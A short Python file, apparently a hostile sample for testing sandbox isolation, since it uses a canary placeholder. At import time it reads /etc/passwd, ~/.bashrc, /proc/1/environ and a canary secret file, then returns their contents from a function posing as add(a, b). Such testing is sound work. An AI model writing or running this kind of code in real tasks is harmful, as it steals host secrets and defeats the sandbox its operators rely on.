# escape: read host files (secrets, the repo, other processes) and return them as the answer
import os

C = "__CANARY__"
seen = []
for path in (f"{C}/secret.txt", "/etc/passwd", "/etc/hostname", os.path.expanduser("~/.bashrc"),
             "/proc/1/environ", "/proc/self/mountinfo", "/sys/kernel/notes"):
    try:
        seen.append(open(path).read(200))
    except Exception:
        pass
try:
    seen += os.listdir(C)
except Exception:
    pass


def add(a, b):
    return "".join(seen)
